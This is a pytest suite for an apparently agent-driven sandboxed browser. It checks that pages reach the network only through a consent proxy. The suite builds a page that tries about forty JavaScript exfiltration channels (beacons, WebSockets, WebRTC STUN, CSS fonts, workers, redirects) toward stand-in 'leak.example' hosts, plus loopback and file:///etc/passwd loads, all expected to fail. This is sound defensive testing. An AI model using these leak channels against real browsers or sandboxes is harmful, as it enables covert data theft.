"""A real browser can reach what was opened to it, by the proxy, and nothing by any other way."""

import asyncio
import re
from pathlib import Path

import pytest

from sayso.server.capabilities.browser.errors import BrowserError, RefusedError
from sayso.server.runtimes.network.socket_handover import PORT
from sayso.server.runtimes.sandbox.self_test.proof import candidates
from tests.capabilities.browser.rig import HOST, Driven, below, bubblewrap, driven, small_web

pytestmark = [pytest.mark.browser, pytest.mark.thorough]

_WAYS = {
    "fetch": "fetch('http://{h}/')",
    "no-cors": "fetch('http://{h}/', {{mode: 'no-cors', method: 'POST', body: 'x'}})",
    "keepalive": "fetch('http://{h}/', {{keepalive: true, mode: 'no-cors'}})",
    "xhr": "let x = new XMLHttpRequest(); x.open('GET', 'http://{h}/'); x.send()",
    "beacon": "navigator.sendBeacon('http://{h}/', 'x')",
    "socket": "new WebSocket('ws://{h}/')",
    "tls-socket": "new WebSocket('wss://{h}/')",
    "events": "new EventSource('http://{h}/')",
    "transport": "new WebTransport('https://{h}:4433/')",
    "stun": (
        "let p = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{h}:3478'}}]}});"
        "p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))"
    ),
    "stun-address": (
        "let p = new RTCPeerConnection({{iceServers: [{{urls: 'stun:192.0.2.7:3478'}}]}});"
        "p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))"
    ),
    "image": "add('img', {{src: 'http://{h}/'}})",
    "script": "add('script', {{src: 'http://{h}/'}})",
    "style": "add('link', {{rel: 'stylesheet', href: 'http://{h}/'}})",
    "import": "add('style', {{textContent: '@import url(http://{h}/)'}})",
    "font": (
        "add('style', {{textContent: '@font-face{{font-family:f;src:url(http://{h}/)}}"
        " body{{font-family:f}}'}})"
    ),
    "background": "document.body.style.background = 'url(http://{h}/)'",
    "frame": "add('iframe', {{src: 'http://{h}/'}})",
    "object": "add('object', {{data: 'http://{h}/'}})",
    "embed": "add('embed', {{src: 'http://{h}/'}})",
    "video": "add('video', {{src: 'http://{h}/', preload: 'auto'}})",
    "audio": "add('audio', {{src: 'http://{h}/', preload: 'auto'}})",
    "prefetch": "add('link', {{rel: 'prefetch', href: 'http://{h}/'}})",
    "preload": "add('link', {{rel: 'preload', as: 'image', href: 'http://{h}/'}})",
    "preconnect": "add('link', {{rel: 'preconnect', href: 'https://{h}/'}})",
    "dns-prefetch": "add('link', {{rel: 'dns-prefetch', href: 'https://{h}/'}})",
    "module": "import('http://{h}/x.js')",
    "manifest": "add('link', {{rel: 'manifest', href: 'http://{h}/'}})",
    "icon": "add('link', {{rel: 'icon', href: 'http://{h}/'}})",
    "ping": "let a = add('a', {{href: '#', ping: 'http://{h}/'}}); a.click()",
    "form": (
        "let f = add('form', {{action: 'http://{h}/', method: 'post', target: 'hole'}}); f.submit()"
    ),
    "worker": ("new Worker(URL.createObjectURL(new Blob([`importScripts('http://{h}/')`])))"),
    "worker-fetch": "new Worker(URL.createObjectURL(new Blob([`fetch('http://{h}/')`])))",
    "data-frame": "add('iframe', {{src: `data:text/html,<img src=http://{h}/>`}})",
    "blob-frame": (
        "add('iframe', {{src: URL.createObjectURL(new Blob([`<img src=http://{h}/>`],"
        " {{type: 'text/html'}}))}})"
    ),
    "script-url": "add('iframe', {{src: `javascript:'<img src=http://{h}/>'`}})",
    "refresh": (
        "add('iframe', {{srcdoc: `<meta http-equiv=refresh content='0;url=http://{h}/'>`}})"
    ),
    "redirect": "fetch('/to?{h}', {{mode: 'no-cors'}})",
    "speculation": (
        "add('script', {{type: 'speculationrules', textContent:"
        " JSON.stringify({{prefetch: [{{urls: ['http://{h}/'], eagerness: 'immediate'}}]}})}})"
    ),
    "service-worker": "navigator.serviceWorker && navigator.serviceWorker.register('/worker.js')",
}
_NEAR = (
    "http://127.0.0.1:{port}/", "http://localhost:{port}/", "http://[::1]:{port}/",
    "http://0.0.0.0:{port}/", "http://[::ffff:127.0.0.1]:{port}/", "http://127.1:{port}/",
)  # fmt: skip
_CLOSED = ("file:///etc/passwd", "chrome://settings/", "view-source:http://{host}:{port}/")


def _attempts(port: int) -> str:
    ways = [
        f"try {{ {code.format(h=f'{name}.leak.example')} }} catch (e) {{}}"
        for name, code in _WAYS.items()
    ]
    near = [
        f"fetch('{url.format(port=port)}near', {{mode: 'no-cors'}}).catch(() => 0)" for url in _NEAR
    ]
    closed = [
        f"try {{ add('iframe', {{src: '{url.format(host=HOST, port=port)}'}}) }} catch (e) {{}}"
        for url in _CLOSED
    ]
    return (
        "<title>ways</title><body><iframe name=hole></iframe><script>"
        "addEventListener('unhandledrejection', e => e.preventDefault());"
        "function add(tag, fields) { const e = document.createElement(tag);"
        " Object.assign(e, fields);"
        " document.body.append(e); return e }\n"
        + "\n".join(f"(() => {{ {each} }})();" for each in (*ways, *near, *closed))
        + "</script>"
    )


def _counters(pid: int) -> dict[str, int]:
    """What the kernel counted in the browser's own network: its first process's."""
    inside = next(
        each
        for each in below(pid)
        if (Path("/proc") / str(each) / "ns/net").readlink() != Path("/proc/self/ns/net").readlink()
    )
    found = {}
    lines = (Path("/proc") / str(inside) / "net/snmp").read_text().splitlines()
    for names, values in zip(lines[::2], lines[1::2], strict=True):
        kind = names.split(":")[0]
        for name, value in zip(names.split()[1:], values.split()[1:], strict=True):
            found[f"{kind}{name}"] = int(value)
    for line in (Path("/proc") / str(inside) / "net/snmp6").read_text().splitlines():
        name, value = line.split()
        found[name] = int(value)
    peers = (Path("/proc") / str(inside) / "net/tcp").read_text().splitlines()[1:]
    found["connected elsewhere"] = sum(
        1
        for line in peers
        if line.split()[2] != "00000000:0000"
        and f"{PORT:04X}" not in (line.split()[1][-4:], line.split()[2][-4:])
    )
    return found


async def _all_wanted(browser: Driven) -> set[str]:
    """The hosts that the proxy was asked for, once nobody asks any more."""
    found = {each.host for each in browser.noted}
    quiet = 0
    async with asyncio.timeout(40):
        while quiet < 6:
            assert browser.browser.proxy
            new = {each.host for each in browser.browser.proxy.take_passages()} - found
            quiet = 0 if new else quiet + 1
            found |= new
            await asyncio.sleep(0.5)
    return found


async def test_no_way_leads_past_the_proxy(tmp_path: Path) -> None:
    async with small_web() as web, driven(tmp_path, web) as browser:
        web.pages["/to"] = ""
        web.heads["/to"] = "HTTP/1.1 302 Found\r\nLocation: http://redirect.leak.example/\r\n"
        web.pages["/worker.js"] = "fetch('http://service-worker.leak.example/', {mode: 'no-cors'})"
        await browser.show("<title>calm</title>")
        await browser.show(_attempts(web.port), "/ways")
        wanted = await _all_wanted(browser)
        after = _counters(browser.browser.pid)
    assert len(_WAYS) + len(_NEAR) + len(_CLOSED) >= 30
    # Whoever asks names in vain asks nobody; the rest came to the proxy and no further.
    assert {each.partition(".")[0] for each in wanted} >= {"fetch", "socket", "image", "worker"}
    assert {host for host, _, _ in web.asked} == {HOST}
    assert not [line for _, line, _ in web.asked if "near" in line]
    assert set(web.looked_up) == {HOST}
    # A browser asks its kernel by which address it would send, and hears: by none. It sends
    # nothing but TCP, and that to the proxy alone.
    assert after["UdpOutDatagrams"] == after["Udp6OutDatagrams"] == 0
    assert after["IpOutRequests"] == after["TcpOutSegs"]
    assert after["Ip6OutRequests"] == 0
    assert after["connected elsewhere"] == 0


async def test_its_own_sandbox_is_on_inside_of_ours(tmp_path: Path) -> None:
    async with small_web() as web, driven(tmp_path, web) as browser:
        await browser.show("<title>calm</title>")
        page = await browser.browser.page()
        await page.cdp.ask("Page.navigate", page.session, url="chrome://sandbox")
        text = ""
        async with asyncio.timeout(20):
            while "sandboxed" not in text:
                told = await page.cdp.ask(
                    "Runtime.evaluate",
                    page.session,
                    expression="document.body ? document.body.innerText : ''",
                    returnByValue=True,
                )
                text = str(told["result"].get("value", ""))
                await asyncio.sleep(0.1)
        assert "You are adequately sandboxed" in text
        renderers = [
            status
            for pid in below(browser.browser.pid)
            if "--type=renderer" in (Path("/proc") / str(pid) / "cmdline").read_text()
            for status in [(Path("/proc") / str(pid) / "status").read_text()]
        ]
        assert renderers
        for status in renderers:
            assert int(re.findall(r"Seccomp_filters:\s+(\d+)", status)[0]) > 1
            assert not int(re.findall(r"CapEff:\s+(\w+)", status)[0], 16)


async def test_a_host_that_nobody_opened_is_not_reached(tmp_path: Path) -> None:
    async with small_web() as web, driven(tmp_path, web) as browser:
        browser.person.answer = False
        with pytest.raises(RefusedError, match="did not say yes"):
            await browser("open", url=web.at())
        assert not browser.browser.pid
        assert not web.asked


async def test_what_leads_to_a_host_that_is_not_open_ends_there(tmp_path: Path) -> None:
    async with small_web() as web, driven(tmp_path, web) as browser:
        link = f'<a href="http://elsewhere.example:{web.port}/">away</a>'
        await browser.show(f"<title>calm</title>{link}")
        told = await browser("click", target="away")
        assert "elsewhere.example" in told
        assert {host for host, _, _ in web.asked} == {HOST}


async def test_a_host_that_was_closed_again_is_asked_for_anew(tmp_path: Path) -> None:
    async with small_web() as web, driven(tmp_path, web) as browser:
        await browser.show("<title>calm</title>")
        browser.browser.place.leases.close()
        browser.person.answer = False
        asked = len(web.asked)
        with pytest.raises(RefusedError, match="did not say yes"):
            await browser("open", url=web.at("/again"))
        assert len(web.asked) == asked


@pytest.mark.parametrize(
    "address",
    ["file:///etc/passwd", "chrome://settings", "javascript:alert(1)", "data:text/html,x",
     "http://user:word@site.example/", "view-source:http://site.example/", "about:blank", ""],
)  # fmt: skip
async def test_nothing_but_pages_of_the_web_is_opened(tmp_path: Path, address: str) -> None:
    async with small_web() as web, driven(tmp_path, web) as browser:
        with pytest.raises(RefusedError):
            await browser("open", url=address)
        assert not browser.browser.pid


async def test_in_the_mode_that_only_reads_nothing_is_opened(tmp_path: Path) -> None:
    async with small_web() as web, driven(tmp_path, web, mode="read-only") as browser:
        with pytest.raises(RefusedError, match="read-only"):
            await browser("open", url=web.at())
        assert not browser.person.asked


async def test_a_sandbox_that_lets_nothing_make_another_refuses(tmp_path: Path) -> None:
    bubblewrap()
    others = [each for each in candidates() if each.kind == "landlock"]
    for sandbox in others:
        async with small_web() as web, driven(tmp_path, web, sandbox=sandbox) as browser:
            with pytest.raises(BrowserError, match="bubblewrap"):
                await browser("open", url=web.at())


async def test_the_browser_ends_with_all_its_processes(tmp_path: Path) -> None:
    async with small_web() as web, driven(tmp_path, web) as browser:
        await browser.show("<title>calm</title>")
        processes = below(browser.browser.pid)
        assert len(processes) > 3
        await browser("close")
        assert not [pid for pid in processes if (Path("/proc") / str(pid)).exists()]


async def test_one_profile_is_one_browsers_at_a_time(tmp_path: Path) -> None:
    async with (
        small_web() as web,
        driven(tmp_path, web) as one,
        driven(tmp_path, web) as other,
    ):
        await one.show("<title>calm</title>")
        async with one.browser.busy:
            with pytest.raises(RefusedError, match="Another conversation"):
                await other("open", url=web.at())
        await other("open", url=web.at())
        assert other.browser.pid
        assert not one.browser.pid
        with pytest.raises(RefusedError, match="No page is open"):
            await one("read")
